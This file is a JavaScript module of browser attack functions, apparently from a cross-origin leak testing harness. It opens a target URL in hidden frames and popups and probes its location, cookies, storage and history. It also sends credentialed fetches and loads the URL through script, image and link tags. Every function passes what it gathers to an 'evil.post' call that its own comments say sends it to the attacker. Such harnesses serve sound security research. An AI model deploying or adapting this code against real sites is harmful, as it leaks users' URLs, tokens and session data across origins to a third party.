// A sign-in of the script's own that ends at another origin, and all ways to read its code from there. Each function runs in
// a page and stands alone.

/** Goes to `url` in a window of its kind, and looks into it from then on; `globalThis.flow` has what was seen. */
export function startFlow(evil, { url, where }) {
  const seen = new Set();
  const tries = [
    (w) => w.location.href,
    (w) => w.name,
    (w) => w.document.URL,
    (w) => w.document.referrer,
    (w) => w.document.documentElement.outerHTML,
    (w) => w.document.cookie,
    (w) => w.history.state,
    (w) => w.navigation.entries().map((entry) => entry.url),
    (w) => w.navigation.currentEntry.url,
    (w) => w.performance.getEntries().map(({ name }) => name),
    (w) => w.opener.location.href,
    (w) => w.frameElement.src,
    (w) => w.frames[0].location.href,
    (w) => Object.entries(w.sessionStorage),
    (w) => Object.entries(w.localStorage),
  ];
  const look = (w) => {
    for (const attempt of tries) {
      try {
        seen.add(JSON.stringify(attempt(w)));
      } catch (error) {
        seen.add(error.message);
      }
    }
  };
  const frame = (more) => () => {
    const made = Object.assign(document.createElement("iframe"), { hidden: true, name: "own", ...more });
    document.documentElement.append(made);
    if (!more.src) sendForm(url, "own");
    return () => made.contentWindow;
  };
  const places = {
    "a hidden frame": frame({ src: url }),
    "a sandboxed frame": frame({ src: url, sandbox: "allow-scripts allow-same-origin allow-forms" }),
    "a frame that a form is sent to": frame({}),
    "an object": () => {
      const made = Object.assign(document.createElement("object"), { data: url });
      document.documentElement.append(made);
      return () => made.contentWindow;
    },
    "a popup": () => popup(url, "_blank"),
    "a popup that a form is sent to": () => {
      const opened = popup("about:blank", "own");
      sendForm(url, "own");
      return opened;
    },
  };
  const popup = (...given) => {
    const opened = open(...given, "popup,width=100,height=100");
    return () => opened;
  };
  addEventListener("message", ({ data }) => seen.add(JSON.stringify(evil.strings(data))));
  addEventListener("securitypolicyviolation", (event) =>
    seen.add([event.blockedURI, event.documentURI, event.sourceFile, event.originalPolicy].join()),
  );
  new PerformanceObserver((list) => list.getEntries().forEach(({ name }) => seen.add(name))).observe({
    entryTypes: ["resource", "navigation"],
  });
  // Going back in a frame may be going back here.
  for (let at = 0; at < 4; at += 1) history.pushState(at, "");
  const opened = places[where]();
  globalThis.flow = { opened, seen, look: () => look(opened()), timer: setInterval(() => look(opened()), 10) };

  function sendForm(target, name) {
    const { origin, pathname, searchParams } = new URL(target);
    const form = Object.assign(document.createElement("form"), { method: "get", action: origin + pathname, target: name });
    for (const [field, value] of searchParams)
      form.append(Object.assign(document.createElement("input"), { type: "hidden", name: field, value }));
    document.documentElement.append(form);
    form.submit();
  }
}

/**
 * Brings that window to a page of the script's own origin and looks what it remembers, then back, and sends all that was seen
 * to the attacker.
 */
export async function endFlow(evil, { bare }) {
  const { seen, look, timer } = globalThis.flow;
  const opened = globalThis.flow.opened();
  const pause = () => new Promise((resolve) => setTimeout(resolve, 300));
  const readable = async () => {
    for (let round = 0; round < 50; round += 1) {
      try {
        if (opened.location.href === bare && opened.document.readyState === "complete") return;
      } catch {
        // It is still elsewhere.
      }
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };
  opened.location.href = bare;
  await readable();
  look();
  for (const move of [
    () => opened.history.back(),
    () => opened.navigation.back(),
    () => (opened.location.hash = "x"),
    () => (opened.location.href = "javascript:'' + document.referrer + location.href"),
  ]) {
    try {
      move();
    } catch {
      // That is not allowed there.
    }
    await pause();
    look();
  }
  clearInterval(timer);
  if (opened.closed === false && opened !== opened.parent) opened.close();
  await evil.post([...seen].join("\n"));
}

/** Asks for the URL in ways that show nothing; whatever can be read of the answers goes to the attacker. */
export async function askQuietly(evil, { url }) {
  const seen = [];
  const note = (value) => seen.push(JSON.stringify(evil.strings(value)));
  for (const mode of ["cors", "no-cors"]) {
    for (const redirect of ["follow", "manual", "error"]) {
      const answer = await fetch(url, { mode, redirect, credentials: "include" }).catch((error) => error);
      note([
        answer,
        answer.url,
        answer.type,
        String(answer.message),
        answer.headers && [...answer.headers],
        await answer.text?.().catch(() => ""),
      ]);
    }
  }
  const loaded = (element) => new Promise((resolve) => Object.assign(element, { onload: resolve, onerror: resolve }));
  for (const [name, more] of [
    ["script", { src: url }],
    ["img", { src: url }],
    ["link", { rel: "stylesheet", href: url }],
    ["link", { rel: "prefetch", href: url }],
    ["video", { src: url }],
  ]) {
    const element = Object.assign(document.createElement(name), more);
    const done = loaded(element);
    document.documentElement.append(element);
    await Promise.race([done, new Promise((resolve) => setTimeout(resolve, 500))]);
    note([element.src, element.href, element.currentSrc, element.sheet?.href]);
  }
  note(performance.getEntries().map((entry) => entry.toJSON()));
  await evil.post(seen.join("\n"));
}

/** Planted: tells what a page of the app's origin can know of where its tab was. */
export function tellWhereabouts(evil) {
  const known = [
    location.href,
    document.referrer,
    name,
    history.state,
    navigation.entries().map(({ url }) => url),
    navigation.activation?.from?.url,
  ];
  evil.post(JSON.stringify([known, performance.getEntries().map((entry) => entry.toJSON())]));
}
